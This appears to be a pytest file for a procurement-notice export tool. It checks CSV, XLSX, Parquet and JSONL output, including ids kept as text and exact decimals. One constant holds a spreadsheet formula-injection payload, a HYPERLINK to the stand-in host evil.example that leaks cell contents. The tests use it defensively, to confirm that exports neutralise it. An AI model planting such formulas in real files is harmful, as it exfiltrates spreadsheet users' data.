"""export: ids that stay text in Excel, formula injection neutralised, typed XLSX, exact Parquet decimals,
atomic writes; on the real fcs notice (registry number 0301300140921000011, customer INN 0278060411)."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone
from decimal import Decimal

import pytest

from tenderscan import parse
from tenderscan.services.export.columns import Table
from tenderscan.services.export.tables import export
from tenderscan.models import Item, Tender

from .conftest import ZAKUPKI, run

FCS = ZAKUPKI / "44fz_fcs_printform_fcsNotificationEF_0301300140921000011.xml"
EZK2020 = ZAKUPKI / "44fz_ep2020_printform_epNotificationEZK2020_0362100022326000101.xml"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def evil_notice(tmp_path):
    """The real fcs notice with its first medicine renamed to a formula."""
    data = FCS.read_bytes()
    assert "<MNNName>ФОРМАЛЬДЕГИД</MNNName>".encode() in data
    p = tmp_path / "evil.xml"
    p.write_bytes(data.replace("<MNNName>ФОРМАЛЬДЕГИД</MNNName>".encode(),
                               f"<MNNName>{EVIL.replace('&', '&amp;')}</MNNName>".encode()))
    return p


def read_csv(path, delimiter=","):
    raw = path.read_bytes()
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=delimiter))


def test_excel_csv_keeps_ids_as_text(tmp_path):
    out = tmp_path / "documents.csv"
    r = run("export", str(FCS), "--table", "documents", "--excel", "--delimiter", ";", "-o", str(out))
    assert r.exit_code == 0, r.stderr
    assert "1 documents rows written" in r.stderr and r.stdout == ""
    raw, rows = read_csv(out, ";")
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    head, row = rows
    doc = dict(zip(head, row))
    assert doc["id"] == '="0301300140921000011"'
    assert doc["customer_inn"] == '="0278060411"'
    assert doc["amount"] == "44648,67"  # ';' goes with the decimal comma
    assert doc["published"] == "2021-04-08 00:22:49"
    assert doc["items"] == "8" and doc["year"] == "2021"
    plain = tmp_path / "plain.csv"
    assert run("export", str(FCS), "-o", str(plain)).exit_code == 0
    raw, rows = read_csv(plain)
    doc = dict(zip(*rows))
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert (doc["id"], doc["customer_inn"], doc["amount"]) == ("0301300140921000011", "0278060411", "44648.67")
    assert doc["published"] == "2021-04-08T00:22:49.760000+05:00"


def test_formula_in_an_item_name_is_neutralised_not_dropped(tmp_path, evil_notice):
    out = tmp_path / "items.csv"
    r = run("export", str(evil_notice), "--table", "items", "--excel", "-o", str(out))
    assert r.exit_code == 0, r.stderr
    _, rows = read_csv(out)
    head, *items = rows
    assert len(items) == 8
    names = [dict(zip(head, i))["name"] for i in items]
    assert names[0] == "'" + EVIL and names[1] == "ВОДОРОДА ПЕРОКСИД"
    assert dict(zip(head, items[0]))["customer_inn"] == '="0278060411"'
    plain = tmp_path / "plain.csv"
    run("export", str(evil_notice), "--table", "items", "-o", str(plain))
    _, rows = read_csv(plain)
    assert dict(zip(rows[0], rows[1]))["name"] == EVIL  # plain CSV keeps the data as it is


def test_xlsx_typed_cells_ids_as_text_frozen_header(tmp_path, evil_notice):
    import openpyxl

    out = tmp_path / "items.xlsx"
    r = run("export", str(evil_notice), "--table", "items", "-o", str(out))
    assert r.exit_code == 0, r.stderr
    ws = openpyxl.load_workbook(out).active
    assert ws.title == "items" and ws.freeze_panes == "A2"
    head = [c.value for c in ws[1]]
    assert head[:4] == ["id", "version", "kind", "year"] and ws["A1"].font.bold
    first = {h: c for h, c in zip(head, ws[2])}
    assert (first["id"].value, first["id"].data_type) == ("0301300140921000011", "s")
    assert (first["customer_inn"].value, first["customer_inn"].data_type) == ("0278060411", "s")
    assert (first["name"].value, first["name"].data_type) == (EVIL, "s")  # text, never a formula
    assert first["name"].quotePrefix
    assert first["amount"].data_type == "n" and first["amount"].value == pytest.approx(5964.60)
    assert first["quantity"].value == 600 and first["year"].value == 2021
    assert ws.max_row == 9
    docs = tmp_path / "documents.xlsx"
    assert run("export", str(FCS), "-o", str(docs)).exit_code == 0
    ws = openpyxl.load_workbook(docs).active
    d = {h.value: c for h, c in zip(ws[1], ws[2])}
    assert d["published"].is_date and d["published"].value == datetime(2021, 4, 8, 0, 22, 49, 760000)
    assert d["amount"].value == pytest.approx(44648.67) and d["customer_inn"].value == "0278060411"


def test_xlsx_cuts_text_at_the_cell_limit_with_a_warning(tmp_path):
    import openpyxl

    t = Tender(id="1", kind="notice", source_format="test", title="x" * 40000,
               items=[Item(name="y" * 33000, amount=Decimal("1.10"))])
    out = tmp_path / "d.xlsx"
    res = export([t], Table.documents, out)
    assert res.rows == 1 and len(res.warnings) == 1 and "32,767" in res.warnings[0]
    ws = openpyxl.load_workbook(out).active
    title = [c for h, c in zip(ws[1], ws[2]) if h.value == "title"][0]
    assert len(title.value) == 32767


def test_parquet_amounts_are_decimals(tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    out = tmp_path / "items.parquet"
    r = run("export", str(FCS), str(EZK2020), "--table", "items", "-o", str(out))
    assert r.exit_code == 0, r.stderr
    table = pq.read_table(out)
    for col in ("amount", "unit_price", "quantity"):
        assert pa.types.is_decimal(table.schema.field(col).type), col
    assert pa.types.is_string(table.schema.field("customer_inn").type)
    rows = table.to_pylist()
    assert len(rows) == 9
    assert rows[0]["id"] == "0301300140921000011" and rows[0]["customer_inn"] == "0278060411"
    assert rows[0]["amount"] == Decimal("5964.60") and rows[3]["unit_price"] == Decimal("0.68807143")
    assert sum(r["amount"] for r in rows[:8]) == Decimal("44648.67")
    assert rows[8]["amount"] == Decimal("102871.68") and rows[8]["quantity"] == Decimal("12")
    docs = tmp_path / "docs.parquet"
    assert run("export", str(FCS), "--format", "parquet", "-o", str(docs)).exit_code == 0
    d = pq.read_table(docs)
    assert pa.types.is_decimal(d.schema.field("amount").type)
    assert pa.types.is_timestamp(d.schema.field("published").type)
    assert d.to_pylist()[0]["published"] == datetime(2021, 4, 7, 19, 22, 49, 760000, tzinfo=timezone.utc)


def test_parquet_partitioned_by_year(tmp_path):
    import pyarrow as pa
    import pyarrow.dataset as ds

    out = tmp_path / "items"
    r = run("export", str(FCS), str(EZK2020), "--table", "items", "--format", "parquet", "--partition-by", "year",
            "-o", str(out))
    assert r.exit_code == 0, r.stderr
    assert sorted(p.name for p in out.iterdir()) == ["year=2021", "year=2026"]
    t = ds.dataset(out, format="parquet", partitioning="hive").to_table()
    assert t.num_rows == 9 and pa.types.is_decimal(t.schema.field("amount").type)
    # written again: replaced as a whole
    r = run("export", str(FCS), "--table", "items", "--format", "parquet", "--partition-by", "year", "-o", str(out))
    assert r.exit_code == 0 and sorted(p.name for p in out.iterdir()) == ["year=2021"]
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_jsonl_and_every_table(tmp_path):
    out = tmp_path / "parties.jsonl"
    assert run("export", str(FCS), "--table", "parties", "-o", str(out)).exit_code == 0
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert rows[0]["role"] == "customer" and rows[0]["inn"] == "0278060411"
    items = tmp_path / "items.jsonl"
    run("export", str(FCS), "--table", "items", "-o", str(items))
    first = json.loads(items.read_text(encoding="utf-8").splitlines()[0])
    assert first["amount"] == "5964.60" and first["unit_price"] == "9.941"
    for table in ("documents", "items", "parties", "stations", "attachments"):
        for ext in ("csv", "xlsx", "parquet", "jsonl"):
            r = run("export", str(FCS), str(EZK2020), "--table", table, "-o", str(tmp_path / f"{table}.{ext}"))
            assert r.exit_code == 0, (table, ext, r.stderr)
    att = [json.loads(x) for x in (tmp_path / "attachments.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(att) == 8 and att[4]["name"] == "Обоснование цены.docx" and att[4]["attachment_kind"] == "MRJ"


def test_atomic_write_leaves_the_old_file_when_it_fails(tmp_path):
    out = tmp_path / "items.csv"
    out.write_text("old\n")
    [good] = parse(str(FCS))

    def tenders():
        yield good
        raise RuntimeError("disk on fire")

    with pytest.raises(RuntimeError):
        export(tenders(), Table.items, out)
    assert out.read_text() == "old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["items.csv"]


@pytest.mark.parametrize("args, words", [
    (["-o", "x.txt"], "cannot tell the format"),
    (["-o", "x.xlsx", "--excel"], "CSV only"),
    (["-o", "x.csv", "--partition-by", "year"], "Parquet only"),
    (["-o", "x.parquet", "--partition-by", "colour"], "no column"),
    (["-o", "x.csv", "--delimiter", ";;"], "one character"),
])
def test_usage_errors(tmp_path, args, words):
    args = [a if not a.startswith("x.") else str(tmp_path / a) for a in args]
    r = run("export", str(FCS), *args)
    assert r.exit_code == 2 and words in r.stderr and "Traceback" not in r.stderr


def test_export_the_whole_store(tmp_path):
    from tenderscan.store import Store

    v2 = tmp_path / "v2.xml"
    v2.write_bytes(EZK2020.read_bytes().replace(b"<versionNumber>1</versionNumber>",
                                                b"<versionNumber>2</versionNumber>"))
    with Store.open(tmp_path / "st") as st:
        for p in (FCS, EZK2020, v2):
            for t in parse(str(p)):
                st.add(t, p.read_bytes())
    out = tmp_path / "docs.csv"
    r = run("export", "--store", str(tmp_path / "st"), "-o", str(out))
    assert r.exit_code == 0, r.stderr
    _, rows = read_csv(out)
    assert sorted((dict(zip(rows[0], r))["id"], dict(zip(rows[0], r))["version"]) for r in rows[1:]) == [
        ("0301300140921000011", ""), ("0362100022326000101", "2")]
    r = run("export", "--store", str(tmp_path / "st"), "--all-versions", "-o", str(out))
    _, rows = read_csv(out)
    assert len(rows) == 4
